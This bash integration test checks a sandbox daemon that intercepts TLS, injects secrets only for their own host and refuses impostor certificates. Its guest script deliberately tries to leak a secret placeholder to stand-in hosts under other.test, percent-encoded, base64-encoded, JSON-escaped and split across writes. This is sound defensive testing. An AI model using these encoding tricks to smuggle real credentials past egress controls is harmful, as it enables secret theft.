#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# TLS interception and secret injection with real clients (issue 14): what
# tls_intercept.sh leaves out.  An HTTPS upstream in netns I
# (tls_clients_server.py: ALPN h2 and http/1.1, its own CA given as
# tls.upstream_ca_files) logs what it really receives; two impostors serve
# api.test on ports 8443 (a CA nobody configured) and 9443 (the right CA,
# another name).  In `msbnetd run --tls-intercept` with TLSC_KEY for
# api.test and TLSC_SPARE for spare.test (so every api.test connection is
# scanned for a secret it may not carry):
#   - Python http.client and requests send Bearer TLSC_KEY to api.test: the
#     upstream gets the value, the guest only ever its placeholder; requests'
#     Basic credentials user:TLSC_KEY arrive as user:value (re-encoded),
#     and their echo reaches the guest as base64 of user:placeholder;
#   - the placeholder to names under other.test percent-encoded in the
#     query (curl), JSON-escaped in a body (\u00XX mixed with raw
#     characters; http.client), base64 in Basic credentials (requests) and
#     in a body (curl), and split across TLS writes 50 ms apart (a raw ssl
#     socket): each reset, no answer, no request and no body byte reach
#     the upstream (only http.client's head, written before its body, may),
#     tls.violations and TLSC_KEY's violations count 5; split the same way
#     to api.test it arrives as the value;
#   - 64 MiB of random bytes POSTed to api.test and 32 MiB downloaded from
#     it: SHA-256 equal at both ends;
#   - curl --http2: with secrets h2 is withheld (from every host: curl
#     speaks HTTP/1.1 and the value is still injected, h2_withheld counts
#     each curl); a guest offering h2 alone gets no ALPN answer while the
#     upstream is offered http/1.1; in a sandbox without secrets h2 is
#     negotiated end to end;
#   - the impostors: curl fails its handshake with exit 35 (an alert from
#     msbnet, never the impostor's certificate: not 60), the impostors see
#     msbnet refuse them and no request, tls.upstream_verify_failed 2,
#     guest_hs_failed 0;
#   - every msbnetd exits 0 with no sanitizer report.
#   usage: tls_clients.sh MSBNETD MSBNETCTL
set -uo pipefail
msbnetd=$(realpath "${1:?usage: tls_clients.sh MSBNETD MSBNETCTL}")
ctl=$(realpath "${2:?usage: tls_clients.sh MSBNETD MSBNETCTL}")
here=$(cd "$(dirname "$0")" && pwd)
py=/usr/bin/python3
source "$here/../lib/topology.sh"
topo_require curl openssl dnsmasq timeout sha256sum $py
for m in requests h2; do
    $py -c "import $m" 2>/dev/null || {
        echo "topology: ERROR: missing prerequisite: python module $m (Debian package python3-$m)" >&2
        exit 1
    }
done
topo_up || exit 1
source "$here/../lib/checks.sh"
GUEST_TIMEOUT=120

# ---- certificates and upstreams ------------------------------------------
source "$here/../lib/test_ca.sh"
d=$TOPO_DIR/up
test_ca_make "$d" api.test other.test '*.other.test' h2.test '*.h2.test' || { bad "upstream CA"; checks_done; exit 1; }
test_ca_make "$TOPO_DIR/imp-ca" api.test || { bad "impostor CA"; checks_done; exit 1; }
# The 9443 impostor: signed by the trusted CA, for another name.
imp=$TOPO_DIR/imp-name
mkdir -p "$imp" &&
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=impostor.test \
        -keyout "$imp/leaf.key" -out "$imp/leaf.csr" 2>/dev/null &&
    printf 'subjectAltName=DNS:impostor.test\n' >"$imp/ext" &&
    openssl x509 -req -in "$imp/leaf.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" -CAcreateserial \
        -days 1 -extfile "$imp/ext" -out "$imp/leaf.pem" 2>/dev/null ||
    { bad "impostor leaf"; checks_done; exit 1; }
L=$TOPO_DIR/logs
start_upstream() { # PORT DIR: ready once it says so (a probe would be logged)
    local i
    : >"$L/up$1.requests"
    topo_bg I "up$1" $py "$here/tls_clients_server.py" "$1" "$2/leaf.pem" "$2/leaf.key" "$L/up$1.requests"
    for ((i = 0; i < 200; i++)); do
        grep -q listening "$L/up$1.log" 2>/dev/null && return 0
        sleep 0.05
    done
    echo "upstream on port $1 never listened: $(cat "$L/up$1.log")" >&2
    exit 1
}
start_upstream 443 "$d"
start_upstream 8443 "$TOPO_DIR/imp-ca"
start_upstream 9443 "$imp"
topo_start_dnsmasq_i --address=/api.test/$TOPO_I4 --address=/other.test/$TOPO_I4 \
    --address=/h2.test/$TOPO_I4 || exit 1
up=$L/up443.requests

# Wait (bounded) until FILE has at least N lines matching the ERE: an
# upstream logs a connection when it has ended, which may come a moment
# after the guest has seen its reset.
wait_lines() { # FILE ERE N SECS
    local i
    for ((i = 0; i < $4 * 20; i++)); do
        (($(grep -cE "$2" "$1") >= $3)) && return 0
        sleep 0.05
    done
    return 1
}

# ---- the sandbox with secrets ------------------------------------------------
value="sk-live-$(openssl rand -hex 12)"
spare="sk-spare-$(openssl rand -hex 12)"
export TLSC_KEY=$value TLSC_SPARE=$spare
printf '{"tls": {"intercept": true, "ports": [443, 8443, 9443], "upstream_ca_files": ["%s"]}}\n' \
    "$d/ca.pem" >"$TOPO_DIR/tls.json"
sync=$TOPO_DIR/sync ctld=$TOPO_DIR/ctl work=$TOPO_DIR/work
mkdir -p "$sync" "$ctld" "$work"
chmod 777 "$sync" "$work"
sock=$ctld/msbnetd.sock # msbnetd hides the socket's directory from CMD
cp "$here/tls_clients_guest.py" "$TOPO_DIR/guest.py"

cat >"$TOPO_DIR/guest_a.sh" <<'SH'
py=/usr/bin/python3
G=$TOPO_DIR/guest.py
n=0 # curl runs: each offers h2, which the secrets withhold
c() { # NAME CURL-ARGS...: one line, "NAME: what curl said rc=N"
    local name=$1 out rc
    shift
    n=$((n + 1))
    out=$(curl -sS --max-time 60 "$@" 2>&1)
    rc=$?
    printf '%s: %s rc=%s\n' "$name" "$(printf %s "$out" | head -c 400 | tr '\n' '|')" "$rc"
}
# 1. Python clients to the secret's host.
$py $G httpclient hc https://api.test/hc
$py $G requests rq https://api.test/rq
$py $G basic ba-api https://api.test/ba-api
# 2. Violations to other hosts (a name each: the upstream's log tells them
# apart), each form once; a clean request first.
c clean -H "Authorization: Bearer nothing" https://other.test/clean
# Percent-encoded, upper- and lower-case escapes mixed with raw characters.
pct=$($py -c 'import os
k = os.environ["TLSC_KEY"]
print("".join(("%%%02X", "%%%02x", "%c")[i % 3] % ord(ch) for i, ch in enumerate(k)))')
c pq "https://pq.other.test/pq?k=$pct"
$py $G json js https://js.other.test/js
$py $G basic ba https://ba.other.test/ba
c b64 --data-binary "$(printf '{"key": "%s"}' "$TLSC_KEY" | base64 -w0)" https://b64.other.test/b64
$py $G split sp-other sp.other.test /split-other
$py $G split sp-api api.test /split-api
# 3. Large bodies both ways.
head -c 67108864 /dev/urandom >"$W/up.bin"
echo "up-sha=$(sha256sum <"$W/up.bin" | cut -d' ' -f1)"
c up -o /dev/null -w 'code=%{http_code} sent=%{size_upload}' --data-binary @"$W/up.bin" \
    -H "Content-Type: application/octet-stream" https://api.test/upload
rm -f "$W/up.bin"
c down -o "$W/down.bin" -w 'code=%{http_code} got=%{size_download}' "https://api.test/download?n=33554432"
echo "down-sha=$(sha256sum <"$W/down.bin" | cut -d' ' -f1)"
rm -f "$W/down.bin"
# 4. HTTP/2 asked for, to the secret's host and to one without a secret.
c h2a --http2 -w ' http=%{http_version}' -H "Authorization: Bearer $TLSC_KEY" https://api.test/h2a
c h2b --http2 -w ' http=%{http_version}' https://h2.test/h2b
$py $G alpn h2only only.h2.test h2
# 5. Impostors for api.test.
c imp-ca -H "Authorization: Bearer $TLSC_KEY" https://api.test:8443/imp-ca
c imp-name -H "Authorization: Bearer $TLSC_KEY" https://api.test:9443/imp-name
echo "curls=$n"
echo "placeholder=$TLSC_KEY"
: >"$SYNC/done"
while [ ! -e "$SYNC/go" ]; do sleep 0.05; done
exit 0
SH
SYNC=$sync W=$work GUEST_STATUS=0 guest --dns $TOPO_I4 --config "$TOPO_DIR/tls.json" \
    --control-socket "$sock" --secret-env TLSC_KEY@api.test --secret-env TLSC_SPARE@spare.test \
    --print-metrics -- sh "$TOPO_DIR/guest_a.sh" >"$TOPO_DIR/guest_a.out" 2>&1 &
gpid=$!
wait_mark "$sync/done" 100 || bad "the guest ran to its end" "$(cat "$TOPO_DIR/guest_a.out")"
secrets=$("$ctl" --socket "$sock" --json secrets 2>&1)
touch "$sync/go"
wait "$gpid"
out=$(cat "$TOPO_DIR/guest_a.out")
echo "$out" | grep -v '^{"schema'
echo "--- upstream 443:"
cat "$up"
echo "--- secrets: $secrets"
line() { grep -m1 "^$1: " <<<"$out"; }
ph=$(sed -n 's/^placeholder=//p' <<<"$out")
[[ -n $ph && $ph != "$value" && ${#ph} -eq ${#value} ]] && ok "the guest holds a placeholder as long as the value" \
    || bad "the guest holds a placeholder as long as the value" "$ph"
[[ $out != *"$value"* && $out != *"$spare"* ]] && ok "the guest never sees a value" \
    || bad "the guest never sees a value"
[[ $secrets != *"$value"* && $secrets != *"$spare"* ]] && ok "msbnetctl secrets shows no value" \
    || bad "msbnetctl secrets shows no value"

# 1. http.client and requests: substituted on the way out, redacted on the way back.
for k in hc rq; do
    expect "$k: answered, the echo redacted to the placeholder" \
        "$k: answered 200 you sent: Bearer $ph | len=0" "$(line $k)"
    grep -q "^req sni=api.test proto=http/1.1 method=GET path=/$k auth=Bearer $value len=0 " "$up" \
        && ok "$k: the upstream got the real value" || bad "$k: the upstream got the real value"
done

# Basic credentials: decoded, substituted, re-encoded.  The upstream echoes
# them base64-encoded: the guest must get base64 of user:placeholder (the
# response redaction overwrites base64 of a value too), never the value's.
b64=$(printf 'user:%s' "$value" | base64 -w0)
b64ph=$(printf 'user:%s' "$ph" | base64 -w0)
expect "ba-api: requests' Basic credentials echoed as user:placeholder" \
    "ba-api: answered 200 you sent: Basic $b64ph | len=0" "$(line ba-api)"
echoed=$(line ba-api | sed -n 's/^ba-api: answered 200 you sent: Basic \([^ ]*\) .*/\1/p')
[[ -n $echoed && $out != *"$b64"* && $(printf %s "$echoed" | base64 -d 2>/dev/null) != *"$value"* ]] \
    && ok "ba-api: the guest sees neither base64 of user:value nor the value decoded" \
    || bad "ba-api: the guest sees neither base64 of user:value nor the value decoded" "$(line ba-api)"
grep -q "^req sni=api.test proto=http/1.1 method=GET path=/ba-api auth=Basic $b64 len=0 " "$up" \
    && ok "ba-api: the upstream got user:value" || bad "ba-api: the upstream got user:value"

# 2. Violations: reset, nothing of them upstream, each counted.
expect "clean request to other.test answered" "clean: you sent: Bearer nothing" "$(line clean)"
for k in pq b64; do
    l=$(line $k)
    [[ $l == "$k: curl: ("* && $l != *"you sent"* && $l != *"rc=0" ]] \
        && ok "$k: reset, no answer" || bad "$k: reset, no answer" "$l"
done
for k in js ba sp-other; do
    l=$(line $k)
    [[ $l == "$k: reset "* ]] && ok "$k: reset, no answer" || bad "$k: reset, no answer" "$l"
done
# Each violating connection reached the upstream (msbnet connects before
# the guest's handshake ends), which logs it when it ends.  What came
# through: nothing where the placeholder was in the head (held until
# whole); http.client writes its head and its body apart, and only the
# head (it carries nothing) may have gone ahead of the body's violation.
wait_lines "$up" '^conn sni=[a-z0-9]+\.other\.test ' 5 10
for k in pq ba b64 sp; do
    expect "$k: the upstream received 0 bytes" "bytes=0 reqs=0 body=0" \
        "$(grep "^conn sni=$k.other.test " "$up" || echo "no connection")"
done
expect "js: the upstream received no request and no body byte" "reqs=0 body=0" \
    "$(grep '^conn sni=js.other.test ' "$up" || echo "no connection")"
grep -q '^req sni=[a-z0-9]*\.other\.test' "$up" && bad "no violating request reached the upstream" \
    || ok "no violating request reached the upstream"
expect "split inside the placeholder to api.test: answered, redacted" \
    "sp-api: answered 200 you sent: Bearer $ph | len=0" "$(line sp-api)"
grep -q "^req sni=api.test proto=http/1.1 method=GET path=/split-api auth=Bearer $value len=0 " "$up" \
    && ok "split to api.test: the upstream got the real value" || bad "split to api.test: the real value"
grep -Fq "$ph" "$up" && bad "a placeholder reached the upstream" || ok "no placeholder reached the upstream"

# 3. 64 MiB up, 32 MiB down.
upsha=$(sed -n 's/^up-sha=//p' <<<"$out")
expect "64 MiB upload: curl sent it all" "code=200 sent=67108864" "$(line up)"
expect "64 MiB upload: the upstream's SHA-256 is the guest's" \
    "path=/upload auth=- len=67108864 sha256=${upsha:-none}" "$(grep 'path=/upload' "$up")"
downsha=$(sed -n 's/^down-sha=//p' <<<"$out")
expect "32 MiB download: curl got it all" "code=200 got=33554432" "$(line down)"
expect "32 MiB download: the guest's SHA-256 is the upstream's" \
    "len=33554432 sha256=${downsha:-none}" "$(grep '^sent .*path=/download' "$up")"

# 4. h2 withheld while secrets exist (plugin/README.md: "h2 is withheld
# while secrets exist"; tls/README.md: h2 alone -> http/1.1 upstream, no
# answer to the guest).
expect "curl --http2 to the secret's host speaks HTTP/1.1" "http=1.1 rc=0" "$(line h2a)"
grep -q "^req sni=api.test proto=http/1.1 method=GET path=/h2a auth=Bearer $value " "$up" \
    && ok "h2 withheld: the value still injected" || bad "h2 withheld: the value still injected"
expect "curl --http2 to a host without a secret speaks HTTP/1.1 too" "http=1.1 rc=0" "$(line h2b)"
grep -q '^conn .* alpn=h2 ' "$up" && bad "no upstream connection speaks h2 with secrets" \
    || ok "no upstream connection speaks h2 with secrets"
expect "a guest offering h2 alone gets no ALPN answer" "h2only: alpn -" "$(line h2only)"
wait_lines "$up" '^conn sni=only\.h2\.test ' 1 10
expect "... while the upstream was offered (and chose) http/1.1" "alpn=http/1.1" \
    "$(grep '^conn sni=only.h2.test ' "$up" || echo "no connection")"

# 5. Impostors: msbnet refuses them; the guest gets an alert, not their certificate.
for k in imp-ca imp-name; do
    l=$(line $k)
    [[ $l == *"alert handshake failure"*"rc=35" && $l != *"you sent"* ]] \
        && ok "$k: the guest's handshake fails with msbnet's alert (curl 35)" \
        || bad "$k: the guest's handshake fails with msbnet's alert (curl 35)" "$l"
done
# Their handshakes ended with msbnet's alert for their certificates.
wait_lines "$L/up8443.requests" '^hsfail' 1 10
expect "the untrusted-CA impostor: msbnet refused its certificate" \
    "hsfail sni=api.test err=TLSV1_ALERT_UNKNOWN_CA" "$(cat "$L/up8443.requests")"
wait_lines "$L/up9443.requests" '^hsfail' 1 10
expect "the wrong-name impostor: msbnet refused its certificate" \
    "hsfail sni=api.test err=SSLV3_ALERT_BAD_CERTIFICATE" "$(cat "$L/up9443.requests")"
grep -q '^req' "$L/up8443.requests" "$L/up9443.requests" && bad "an impostor received a request" \
    || ok "the impostors received no request"

# Counters.
n=$(sed -n 's/^curls=//p' <<<"$out")
tls=$(grep -o '"tls":{[^}]*}' <<<"$out" | tail -1)
echo "$tls"
expect "tls.violations 5" '"violations":5,' "$tls"
expect "tls.substitutions 4 (hc, rq, sp-api, h2a; not inside Basic)" '"substitutions":4,' "$tls"
expect "tls.upstream_verify_failed 2" '"upstream_verify_failed":2,' "$tls"
expect "tls.upstream_hs_failed 0" '"upstream_hs_failed":0,' "$tls"
expect "tls.guest_hs_failed 0: the guest's own check never failed" '"guest_hs_failed":0,' "$tls"
expect "tls.h2_withheld: each of the $n curl connections and h2only" "\"h2_withheld\":$((${n:-0} + 1))," "$tls"
expect "tls.alpn_h2 0" '"alpn_h2":0,' "$tls"
expect "tls.http_malformed 0" '"http_malformed":0,' "$tls"
key=$(grep -o '{[^{}]*"env":"TLSC_KEY"[^{}]*}' <<<"$secrets")
spr=$(grep -o '{[^{}]*"env":"TLSC_SPARE"[^{}]*}' <<<"$secrets")
expect "TLSC_KEY: 5 violations" '"violations":5' "$key"
expect "TLSC_KEY: 4 substitutions" '"substitutions":4' "$key"
expect "TLSC_SPARE: no violation in 64 MiB of random bytes" '"violations":0' "$spr"

# ---- a sandbox without secrets: h2 end to end ------------------------------------
printf '{"tls": {"intercept": true, "upstream_ca_files": ["%s"]}}\n' "$d/ca.pem" >"$TOPO_DIR/nosec.json"
out=$(GUEST_STATUS=0 guest --dns $TOPO_I4 --config "$TOPO_DIR/nosec.json" \
    --control-socket "$ctld/nosec.sock" --print-metrics -- \
    curl -sS --max-time 20 --http2 -w ' http=%{http_version}\n' https://h2.test/h2)
echo "$out" | grep -v '^{"schema'
expect "no secrets: curl --http2 speaks h2" "you sent: -" "$out"
expect "no secrets: HTTP version 2" "http=2" "$out"
grep -q '^req sni=h2.test proto=h2 method=GET path=/h2 ' "$up" && ok "no secrets: the upstream served h2" \
    || bad "no secrets: the upstream served h2" "$(grep h2.test "$up")"
tls=$(grep -o '"tls":{[^}]*}' <<<"$out" | tail -1)
expect "no secrets: tls.alpn_h2 1" '"alpn_h2":1,' "$tls"
expect "no secrets: tls.h2_withheld 0" '"h2_withheld":0,' "$tls"
checks_done
